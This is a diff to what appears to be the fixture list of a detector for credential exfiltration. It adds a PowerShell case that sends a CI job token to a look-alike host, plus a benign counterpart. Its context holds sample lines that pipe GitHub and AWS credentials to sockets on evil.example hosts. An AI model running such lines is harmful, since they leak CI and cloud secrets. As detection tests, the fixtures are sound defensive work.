@@ -144,6 +144,9 @@ RULES = [
                     py("import os, requests\ndef key():\n    return os.getenv('LUMA_API_KEY', '')\n"
                        "def call(url, *, api_key):\n    return requests.post(url, headers={'Authorization': api_key}, data={'k': api_key})\n"
                        "call('https://lumalabs.evil.example/x', api_key=key())\n"),
+                    # a CI system's own job token sent to a host that is not that CI service
+                    Fixture("$h = @{ Authorization = \"Bearer $env:SYSTEM_ACCESSTOKEN\" }\n"
+                            "Invoke-WebRequest -Uri \"https://results.ci-mirror.example/upload\" -Method Post -Headers $h -Body \"{}\"\n", "up.ps1"),
                     # a credential command's output fed to a one-liner that opens a socket
                     sh("gh auth token | tee >(perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"c.evil.example:8443\"); print $s <STDIN>')\n"),
                     sh("aws configure export-credentials | python3 -c 'import socket,sys; s=socket.create_connection((\"c.evil.example\", 9)); s.sendall(sys.stdin.buffer.read())'\n"),
@@ -179,7 +182,10 @@ RULES = [
                            "const s = await fetch(`https://api.github.com/repos/o/r/contents/${item.name}`);\n"),
                         Fixture("<?php\nforeach (glob('*.env.example') as $f) {\n    echo file_get_contents($f);\n}\n", "show.php"),
                         Fixture("paths = Dir.glob('config/*.yml')\npaths.each do |p|\n  puts File.read(p)\nend\n", "list.rb")],
-        lowered=[Fixture("import os, requests\nkey = os.environ['WEATHER_API_KEY']\nrequests.post('https://api.weather.example/v1/q', data={'key': key})\n", PY),
+        lowered=[# a CI system's job token to its own service's API (data/hosts/credential_vendors.yml)
+                 Fixture("$auth = @{ Authorization = \"Bearer $env:SYSTEM_ACCESSTOKEN\" }\n"
+                         "Invoke-WebRequest -Uri \"https://fabrikam.visualstudio.com/Web/_apis/build/builds?api-version=7.0\" -Headers $auth -Method Patch -Body '{}'\n", "tag.ps1"),
+                 Fixture("import os, requests\nkey = os.environ['WEATHER_API_KEY']\nrequests.post('https://api.weather.example/v1/q', data={'key': key})\n", PY),
                  # a vendor's key to its own API, the vendor read from the name (LUMA_ -> lumalabs.ai, TELEGRAM_ -> telegram.org)
                  Fixture("import os, urllib.request\ntoken = os.environ['TELEGRAM_BOT_TOKEN']\n"
                          "url = f'https://api.telegram.org/bot{token}/sendMessage'\nurllib.request.urlopen(urllib.request.Request(url, data=b'x'))\n", PY),
